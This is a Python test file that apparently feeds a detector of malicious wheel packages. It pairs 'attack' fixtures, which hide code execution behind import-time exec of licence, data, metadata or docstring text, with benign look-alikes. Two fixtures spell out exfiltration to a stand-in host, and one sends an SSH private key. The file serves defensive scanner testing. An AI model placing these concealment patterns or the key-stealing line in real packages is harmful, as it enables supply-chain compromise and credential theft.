"""Files that are executed whatever they are called, and folders of which all is imported."""
from .package import attack, honest
from .reach import STEALS

TESTS = {"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS}


def executed(p, init, name="data.txt"):
    return p.wheel(init, files={"{m}/" + name: STEALS})


@attack
def licence_executed(p):
    """exec of a file named LICENSE. Must be held."""
    return executed(p, '''
        import os

        exec(open(os.path.join(os.path.dirname(__file__), "LICENSE")).read())
        ''', "LICENSE")


@attack
def sibling_name_executed(p):
    """exec of Path(__file__).with_name(). Must be held."""
    return executed(p, '''
        import pathlib

        exec(pathlib.Path(__file__).with_name("data.txt").read_text())
        ''')


@attack
def own_suffix_executed(p):
    """exec of Path(__file__).with_suffix(). Must be held."""
    return executed(p, '''
        import pathlib

        exec(pathlib.Path(__file__).with_suffix(".txt").read_text())
        ''', "__init__.txt")


@attack
def own_name_replaced_executed(p):
    """The path of the data is that of the module, with another name in it. Must be held."""
    return executed(p, 'exec(open(__file__.replace("__init__.py", "data.txt")).read())\n')


@attack
def cython_executed(p):
    """exec of a .pyx, which is no module as it stands. Must be held."""
    return executed(p, 'exec(open(__path__[0] + "/core.pyx").read())\n', "core.pyx")


@attack
def data_loaded_as_source(p):
    """SourceFileLoader is given a path, by keywords in another order. Must be held."""
    return executed(p, '''
        import os
        from importlib.machinery import SourceFileLoader

        SourceFileLoader(path=os.path.join(os.path.dirname(__file__), "data.so"), fullname="data").load_module()
        ''', "data.so")


@attack
def data_read_by_loader(p):
    """The module's own loader reads the data. Must be held."""
    return executed(p, 'exec(__spec__.loader.get_data(__path__[0] + "/data.txt"))\n')


@attack
def resource_listed_and_executed(p):
    """All resources of the package are looked through for the one to execute. Must be held."""
    return executed(p, '''
        from importlib import resources

        for entry in resources.files(__name__).iterdir():
            if entry.name.startswith("da"):
                exec(entry.read_text())
        ''')


@attack
def pattern_executed(p):
    """exec of what fits a pattern. Must be held."""
    return executed(p, '''
        import glob
        import os

        for name in glob.glob(os.path.join(os.path.dirname(__file__), "d*")):
            exec(open(name).read())
        ''')


@attack
def folder_executed(p):
    """exec of what lies in the folder, by a function. Must be held."""
    return executed(p, '''
        import os

        HERE = os.path.dirname(__file__)


        def load():
            for name in os.listdir(HERE):
                if name[0] == "d":
                    exec(open(os.path.join(HERE, name)).read())


        load()
        ''')


@attack
def name_given_to_a_function(p):
    """A function executes the file that it is told. Must be held."""
    return executed(p, '''
        import os


        def load(name):
            with open(os.path.join(os.path.dirname(__file__), name + ".txt")) as f:
                exec(f.read(), globals())


        load("data")
        ''')


@attack
def sibling_reads_data(p):
    """A function of another module reads the data. Must be held."""
    return p.wheel("from .reader import read\n\nexec(read(\"data.txt\"))\n", files={
        "{m}/data.txt": STEALS, "{m}/reader.py": '''
        import os


        def read(name):
            with open(os.path.join(os.path.dirname(__file__), name)) as f:
                return f.read()
        '''})


@attack
def settings_executed(p):
    """A field of a JSON file is executed. Must be held."""
    return p.wheel('''
        import json
        import os

        with open(os.path.join(os.path.dirname(__file__), "settings.json")) as f:
            exec(json.load(f)["start"])
        ''', files={"{m}/settings.json": b'{"start": "import this"}\n'})


@attack
def description_executed(p):
    """The code is part of the description in the metadata. Must be held."""
    return p.wheel('from importlib.metadata import metadata\n\nexec(metadata(__name__)["Description"])\n')


@attack
def documentation_executed(p):
    """The code is part of a text of documentation. Must be held."""
    return p.wheel('from . import tables\n\nexec(tables.__doc__.partition("::")[2])\n')


@attack
def text_of_source_executed(p):
    """exec of a text that stands there as it is. Must be held."""
    return p.wheel('exec("import urllib.request as u\\nu.urlopen(\'http://collect.example.org/\').read()")\n')


@attack
def text_given_to_python(p):
    """Python is started with a text of source that steals. Must be held."""
    return p.wheel('''
        import subprocess
        import sys

        CODE = """
        import urllib.request as u
        u.urlopen('http://collect.example.org/', open('/home/user/.ssh/id_rsa', 'rb').read())
        """


        def check():
            subprocess.run([sys.executable, "-c", CODE])
        ''')


@attack
def data_given_to_python(p):
    """Python is started with a file of data that steals. Must be held."""
    return executed(p, '''
        import os
        import subprocess
        import sys


        def check():
            subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), "data.txt")])
        ''')


@attack
def endings_of_source(p):
    """Files with another ending are modules by a finder of its own. Must be held."""
    return executed(p, '''
        import sys
        from importlib.machinery import FileFinder, SourceFileLoader

        sys.path_hooks.insert(0, FileFinder.path_hook((SourceFileLoader, [".txt"])))
        sys.path_importer_cache.clear()
        from . import data
        ''')


@attack
def all_packages_imported(p):
    """pkgutil walks over the package, and all that it finds is imported: the tests, too. Must be held."""
    return p.wheel('''
        import importlib
        import pkgutil


        def load():
            for _, name, _ in pkgutil.walk_packages(__path__, __name__ + "."):
                importlib.import_module(name)


        load()
        ''', files=TESTS)


@attack
def all_loaded_by_finders(p):
    """The finders load what pkgutil found. Must be held."""
    return p.wheel('''
        import pkgutil

        for finder, name, _ in pkgutil.walk_packages(__path__, __name__ + "."):
            finder.find_spec(name).loader.load_module(name)
        ''', files=TESTS)


@attack
def folder_of_tests_imported(p):
    """The modules of a folder of tests, which is put together, are imported by what listdir gives. Must be held."""
    return p.wheel('''
        import importlib
        import os

        for name in os.listdir(os.path.join(os.path.dirname(__file__), "te" + "sts")):
            importlib.import_module(".te" + "sts." + name[:-3], __name__)
        ''', files=TESTS)


@attack
def sources_of_tests_executed(p):
    """exec of all sources one folder below. Must be held."""
    return p.wheel('''
        import glob
        import os

        for name in glob.glob(os.path.join(os.path.dirname(__file__), "*", "*.py")):
            exec(open(name).read())
        ''', files=TESTS)


@attack
def source_among_data_imported(p):
    """A folder of data is put on sys.path, and a module imported from there. Must be held."""
    return p.wheel('''
        import os
        import sys

        sys.path.insert(0, os.path.join(sys.prefix, "share", "tables"))
        import columns_of
        ''', files={"{m}-1.0.data/data/share/tables/columns_of.py": STEALS})


@honest
def version_executed(p):
    """The file with the version is executed, by a function that reads files beside it."""
    return p.wheel(files={"{m}/_version.py": b'__version__ = "1.0"\n', "{m}/README.md": b"# Tables\n"}, init='''
        import os

        HERE = os.path.abspath(os.path.dirname(__file__))


        def read(*parts):
            with open(os.path.join(HERE, *parts), encoding="utf-8") as f:
                return f.read()


        scope = {}
        exec(read("_version.py"), scope)
        __doc__ = read("README.md")
        ''')


@honest
def settings_of_the_user(p):
    """A function that executes a file of settings, as its caller names it."""
    return p.wheel(files={"{m}/settings.py": '''
        import types


        def load(path):
            module = types.ModuleType("settings")
            with open(path, "rb") as f:
                exec(compile(f.read(), path, "exec"), module.__dict__)
            return module
        '''})


@honest
def plugins_imported(p):
    """The modules of one folder are imported; the tests beside it are not."""
    return p.wheel('''
        import importlib
        import os
        import pkgutil

        for module in pkgutil.iter_modules([os.path.join(os.path.dirname(__file__), "plugins")]):
            importlib.import_module(__name__ + ".plugins." + module.name)
        ''', files={"{m}/plugins/__init__.py": b"", "{m}/plugins/wide.py": b"WIDTH = 120\n", **TESTS})


@honest
def packages_listed(p):
    """A function imports all of the package but its tests."""
    return p.wheel(files={"{m}/discovery.py": '''
        import importlib
        import pkgutil


        def all_columns(package):
            for module in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
                if ".tests." not in module.name:
                    yield importlib.import_module(module.name)
        ''', **TESTS})


@honest
def function_of_a_text(p):
    """exec of texts that define functions, as they stand."""
    return p.wheel('''
        exec("""
        def first(rows):
            return rows[0]
        """)
        ''')


@honest
def python_started_with_a_text(p):
    """Python is started with a text that asks where it lies."""
    return p.wheel(files={"{m}/where.py": '''
        import subprocess
        import sys


        def prefix():
            return subprocess.run([sys.executable, "-c", "import sys; print(sys.prefix)"], capture_output=True).stdout
        '''})


@attack
def executed_by_a_function_of_another_module(p):
    """A function executes a text of the package, and another module calls it at import. Must be held."""
    return p.wheel("from .load import settings\n\nsettings()\n", files={"{m}/theme.txt": b"WIDTH = 80\n", "{m}/load.py": '''
        import os


        def settings():
            exec(open(os.path.join(os.path.dirname(__file__), "theme.txt")).read())
        '''})


@honest
def runs_the_users_settings(p):
    """A function executes the file of settings in the user's folder, when it is called."""
    return p.wheel(files={"{m}/shell.py": '''
        import os


        def start(name="~/.tablesrc"):
            scope = {}
            path = os.path.expanduser(name)
            if os.path.exists(path):
                with open(path) as f:
                    exec(compile(f.read(), path, "exec"), scope)
            return scope
        '''})
